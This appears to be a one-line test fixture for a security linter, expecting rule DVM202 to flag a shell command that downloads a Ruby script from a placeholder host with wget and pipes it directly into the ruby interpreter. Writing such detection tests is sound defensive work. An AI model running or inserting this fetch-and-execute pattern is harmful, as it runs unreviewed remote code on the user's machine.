# expect: DVM202
wget -q https://example.org/i.rb -O - | ruby
